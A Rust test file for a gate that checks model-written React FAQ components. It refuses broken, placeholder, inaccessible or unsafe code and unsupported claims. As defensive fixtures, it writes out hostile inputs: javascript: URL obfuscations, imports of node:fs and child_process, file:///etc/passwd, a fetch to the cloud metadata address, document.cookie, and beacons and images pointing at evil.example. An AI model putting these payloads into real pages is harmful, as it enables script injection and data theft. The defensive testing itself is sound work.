//! The gate: what it lets pass, and what it says of the rest.

use std::sync::LazyLock;

use airstrip::verify::{Author, Draft, DraftForm, Gate, verify};
use serde_json::{Value, json};

use crate::support::{gate, plan_of};

static GATE: LazyLock<Gate> = LazyLock::new(gate);

/// The finding codes for the component `source`, shown as an FAQ section.
fn codes(source: &str) -> Vec<&'static str> {
    let plan = plan_of(&["faq"]);
    let content = json!({ "title": "What people ask", "items": [
        { "question": "Does it render?", "answer": "It does, and twice." },
        { "question": "Is it true?", "answer": "As far as anybody can tell." } ] });
    let form = DraftForm::Code { text: source.to_owned(), content };
    match verify(&GATE, &plan, &plan.sections[0].clone(), Draft { form, author: Author::Model }) {
        Ok(section) => section.findings().iter().map(|it| it.code).collect(),
        Err(rejection) => rejection.findings.iter().map(|it| it.code).collect(),
    }
}

/// A component that shows `jsx`, with `top` above it.
fn component(top: &str, jsx: &str) -> String {
    format!(
        "import type {{ FaqContent, SectionProps }} from \"@/content/types\";\n{top}\n\
         export default function Faq({{ id, content }}: SectionProps<FaqContent>) {{\n  \
         return (<section id={{id}}><h2>{{content.title}}</h2>{jsx}</section>);\n}}\n"
    )
}

#[track_caller]
fn refused(source: &str, code: &str) {
    let found = codes(source);
    assert!(found.contains(&code), "expected {code}, found {found:?} in {source:.400}");
}

#[track_caller]
fn passes(source: &str) {
    assert_eq!(codes(source), Vec::<&str>::new(), "{source:.400}");
}

#[test]
fn sound_sections_pass() {
    passes(&component("", ""));
    passes(&component("import { Check } from \"lucide-react\";", "<Check aria-hidden=\"true\" />"));
    passes(&component("import { Container } from \"@/components/ui/Container\";", "<Container>x</Container>"));
    passes(&component("", "<a href={`#${id}`}>Up</a>"));
    passes(&format!("Here it is:\n```tsx\n{}```\nEnjoy.", component("", "")));
}

#[test]
fn answers_that_are_not_whole_are_refused() {
    refused(&format!("```tsx\n{}", component("", "")), "truncated");
    refused(&component("", "{/* rest of the component */}"), "left-out");
    refused(&component("", "<p>Lorem ipsum dolor</p>"), "left-out");
    refused(&component("", &" ".repeat(600)), "repetition");
    refused(&component("", &"<p>again and again</p>".repeat(900)), "repetition");
    refused(&component("", &format!("<p>{}</p>", "x".repeat(70_000))), "source-size");
    refused(&component("", &("<div>".repeat(90) + &"</div>".repeat(90))), "nesting");
}

#[test]
fn components_that_are_none_are_refused() {
    refused("const a = 1;\nexport { a };\n", "default-export");
    refused("export default () => null;\n", "default-export");
    refused("export default function faq() { return null; }\n", "component-name");
    refused(&(component("", "") + "export default function B() { return null; }\n"), "default-export");
    refused("export default class Faq { }\n", "default-export");
    refused(&component("", "<p>"), "syntax");
    refused(&component("", "<br>"), "syntax");
    refused(
        &component(
            "import { useState } from \"react\";\nfunction A({ on }: { on: boolean }) { if (on) { useState(1); } return null; }",
            "<A on />",
        ),
        "conditional-hook",
    );
}

#[test]
fn names_that_do_not_exist_are_refused() {
    refused(&component("import { Rocketship } from \"lucide-react\";", "<Rocketship />"), "unknown-icon");
    refused(&component("import { useEverything } from \"react\";", "{useEverything()}"), "unknown-export");
    refused(&component("import { Grid } from \"@/components/ui/Container\";", "<Grid />"), "unknown-export");
    refused(&component("", "<Buton />"), "unresolved-name");
    refused(&component("", "{nobody}"), "unresolved-name");
    refused(&component("const unused = 1;", ""), "unused-name");
    refused(&component("const a = 1;", "{(a = 2)}"), "constant-assigned");
    refused(&component("function A(x) { return <i>{x}</i>; }", "{A(1)}"), "untyped");
    refused(&component("const a: any = 1;", "{a}"), "untyped");
}

#[test]
fn imports_that_are_not_allowed_are_refused() {
    let modules = [
        "react-codeshift",
        "node:fs",
        "fs",
        "https://evil.example/x.js",
        "data:text/javascript,1",
        "../../package.json",
        "react/../fs",
        "./Hero",
        "/etc/passwd",
        "@/lib/utils",
        "@/components/ui/Nope",
        "@/components/ui/../../main",
        "@/main",
        "framer-motion",
        "next/link",
        "react-dom",
        "react-dom/server",
        "react/jsx-runtime",
        "lucide",
        "lucide-react/dynamic",
        "tailwindcss",
        "vite",
        "virtual:x",
        "~/x",
        "#x",
        "",
        " react",
        "React",
        "REACT",
        "react?raw",
        "react#x",
        "file:///etc/passwd",
        "blob:x",
        "npm:react",
        "jsr:x",
        "//cdn.example/react.js",
        "node:child_process",
        "child_process",
        "module",
        "process",
        "crypto",
        "axios",
        "lodash",
        "@types/react",
    ];
    for module in modules {
        refused(&component(&format!("import {{ x }} from \"{module}\";"), "{x}"), "import-not-allowed");
    }
    refused(&component("export * from \"node:fs\";", ""), "import-not-allowed");
    refused(&component("export { x } from \"axios\";", ""), "import-not-allowed");
    refused(&component("import \"./evil.css\";", ""), "import-not-allowed");
    refused(&component("", "{import(\"https://evil.example/x.js\")}"), "import-not-allowed");
    refused(&component("", "{import(`x${id}`)}"), "import-not-allowed");
    refused(&component("", "{require(\"fs\")}"), "import-not-allowed");
    refused(&component("", "{import.meta.env.KEY}"), "import-not-allowed");
}

#[test]
fn elements_and_attributes_that_run_something_are_refused() {
    for tag in ["script", "iframe", "object", "embed", "base", "meta", "link", "style"] {
        refused(&component("", &format!("<{tag} />")), "forbidden-element");
    }
    refused(&component("", "<svg><foreignObject /></svg>"), "forbidden-element");
    refused(&component("", "<p dangerouslySetInnerHTML={{ __html: \"<img onerror=1>\" }} />"), "forbidden-attribute");
    refused(&component("", "<a ping=\"https://evil.example\" href=\"#faq\">x</a>"), "forbidden-attribute");
    refused(&component("", "<button formAction=\"https://evil.example\">x</button>"), "forbidden-attribute");
    refused(&component("", "<p onClick=\"alert(1)\">x</p>"), "inline-event");
    refused(&component("", "<p onclick={() => 1}>x</p>"), "inline-event");
}

#[test]
fn addresses_that_run_or_leave_are_refused() {
    let addresses = [
        "\"javascript:alert(1)\"",
        "\"JaVaScRiPt:alert(1)\"",
        "\" javascript:alert(1)\"",
        "\"java\\nscript:alert(1)\"",
        "\"&#106;avascript:alert(1)\"",
        "{\"java\" + \"script:alert(1)\"}",
        "\"vbscript:x\"",
        "\"data:text/html,x\"",
        "{`javascript:${id}`}",
        "{id ? \"#faq\" : \"javascript:1\"}",
        "\"//evil.example\"",
        "\"\\\\\\\\evil.example\"",
        "{[\"javascript:1\"].join(\"\")}",
        "\"ftp://evil.example\"",
        "\"file:///etc/passwd\"",
        "\"blob:x\"",
    ];
    for address in addresses {
        refused(&component("", &format!("<a href={address}>x</a>")), "unsafe-address");
    }
    refused(&component("", "<a {...{ href: \"javascript:1\" }}>x</a>"), "unsafe-address");
    refused(&component("", "<img alt=\"\" src=\"https://evil.example/p.png\" />"), "external-asset");
    refused(&component("", "<img alt=\"\" srcSet=\"//evil.example/p.png 2x\" />"), "external-asset");
    refused(&component("", "<p className=\"bg-[url(https://evil.example/x)]\">x</p>"), "external-asset");
    refused(&component("", "<p style={{ background: \"url(//evil.example)\" }}>x</p>"), "external-asset");
}

#[test]
fn what_reaches_out_of_a_section_is_refused() {
    let globals = [
        "eval(\"1\")",
        "new Function(\"1\")",
        "window.x",
        "document.cookie",
        "globalThis[\"x\"]",
        "localStorage.x",
        "fetch(\"http://169.254.169.254/\")",
        "new WebSocket(\"wss://x\")",
        "navigator.sendBeacon(\"x\")",
        "parent.postMessage(1)",
        "process.env.KEY",
        "setTimeout(\"1\")",
        "location.href",
        "new XMLHttpRequest()",
    ];
    for global in globals {
        refused(&component("", &format!("{{{global}}}")), "forbidden-global");
    }
    for member in
        ["id.constructor.constructor(\"x\")()", "content.__proto__", "content[\"innerHTML\"]", "id.constructor"]
    {
        refused(&component("", &format!("{{{member}}}")), "forbidden-member");
    }
    refused(&component("", "<p>a\u{202E}b</p>"), "hidden-character");
    refused(&component("", "<p>a\u{E0041}b</p>"), "hidden-character");
    refused(&format!("\"use server\";\n{}", component("", "")), "directive");
}

#[test]
fn what_does_not_end_or_throws_is_a_finding() {
    refused(&component("while (true) {}", ""), "render-timeout");
    refused(&component("", "{String(new Array(1e9) + \"\")}"), "render-timeout");
    refused(&component("function f(): number { return f() + 1; }", "{f()}"), "render-recursion");
    refused(&component("", "{content.items.nothing.here}"), "render-threw");
    refused("export default function Faq() { return null; }\n", "render-empty");
}

#[test]
fn what_is_shown_must_be_sound() {
    refused(&component("", "<h1>Second</h1>"), "one-h1");
    refused(&component("", "<h4>Deep</h4>"), "heading-order");
    refused(&component("", "<h3> </h3>"), "empty-heading");
    refused(&component("", "<a href=\"#faq\"></a>"), "no-name");
    refused(&component("", "<button type=\"button\"><svg aria-hidden=\"true\" /></button>"), "no-name");
    refused(&component("", "<input />"), "no-name");
    refused(&component("", "<img src=\"/og.png\" />"), "no-alt");
    refused(&component("", "<a href=\"#faq\">x<button type=\"button\">y</button></a>"), "nested-controls");
    refused(&component("", "<p tabIndex={3}>x</p>"), "tabindex");
    refused(&component("", "<a href=\"#nowhere\">x</a>"), "broken-anchor");
    refused(&component("", "<a href=\"#\">x</a>"), "empty-link");
    refused(&component("", "{String(undefined)}"), "missing-value");
    refused(&component("", "<p className=\"rounded-huge\">x</p>"), "unknown-class");
}

#[test]
fn words_are_held_against_the_schema_and_the_brief() {
    let plan = plan_of(&["faq"]);
    let judge = |content: Value| {
        let draft = Draft { form: DraftForm::Content(content), author: Author::Offline };
        let judged = verify(&GATE, &plan, &plan.sections[0].clone(), draft);
        judged.err().map(|it| it.findings[0].code)
    };
    let faq = |answer: &str| {
        json!({ "title": "What people ask", "items": [
        { "question": "Does it work?", "answer": answer }, { "question": "And now?", "answer": "Still the same answer." } ] })
    };
    assert_eq!(judge(faq("It does what it says.")), None);
    assert_eq!(judge(faq("Used by 10,000 teams.")), Some("claim-not-in-brief"));
    assert_eq!(judge(faq("Trusted by everyone we know.")), Some("claim-not-in-brief"));
    assert_eq!(judge(faq("a\u{200B}b is a hidden word")), Some("hidden-character"));
    assert_eq!(judge(faq("x")), Some("content-schema"));
    assert_eq!(judge(json!({ "title": "What?", "items": [], "extra": 1 })), Some("content-schema"));
}
